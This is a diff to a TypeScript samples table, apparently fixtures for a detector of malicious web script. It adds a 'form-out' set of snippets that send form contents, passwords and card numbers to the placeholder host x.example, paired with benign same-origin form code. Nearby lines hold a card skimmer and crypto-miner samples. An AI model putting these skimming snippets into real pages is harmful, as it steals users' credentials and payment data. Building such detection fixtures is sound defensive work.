@@ -44,6 +44,17 @@ const samples: Readonly<
     ["v=document.querySelector('#card_number').value;new Image().src='//x.example/'+v"],
     ["show('Your card number is needed.')"],
   ],
+  "form-out": [
+    [
+      "f.addEventListener('submit',()=>{fetch('https://x.example/c',{method:'POST',body:new FormData(f)})})",
+      "const d=new FormData(form);navigator.sendBeacon('//x.example/',d)",
+      "q=document.querySelector('[type=password]');q.onblur=()=>{new Image().src='//x.example/?'+q.value}",
+    ],
+    [
+      "form.addEventListener('submit', (event) => event.preventDefault());",
+      "fetch('/forms/v1/forms/1/submissions', { method: 'POST', body: new FormData(form) })",
+    ],
+  ],
   miner: [
     ["pool: 'stratum+tcp://pool.example:3333'", "new CoinHive.Anonymous('key')"],
     ["hive.anonymous = true"],
